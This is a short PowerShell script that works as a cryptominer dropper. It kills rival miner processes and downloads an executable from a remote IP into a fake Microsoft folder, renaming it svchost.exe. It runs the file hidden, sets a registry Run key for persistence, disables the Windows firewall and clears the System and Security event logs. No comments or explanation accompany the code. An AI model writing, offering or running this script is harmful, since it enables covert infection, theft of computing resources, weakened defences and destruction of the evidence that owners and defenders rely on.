$ErrorActionPreference = 'SilentlyContinue'
Get-Process | Where-Object { $_.ProcessName -match 'xmrig|nicehashminer|phoenixminer' } | Stop-Process -Force
$dir = "$env:ProgramData\Microsoft\Crypto\svc"
New-Item -ItemType Directory -Force -Path $dir | Out-Null
Invoke-WebRequest -Uri 'http://198.51.100.40/w.exe' -OutFile "$dir\svchost.exe"
Start-Process -FilePath "$dir\svchost.exe" -ArgumentList '-c config.json' -WindowStyle Hidden
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'svc' -Value "$dir\svchost.exe" -Force
netsh advfirewall set allprofiles state off
wevtutil cl System
wevtutil cl Security
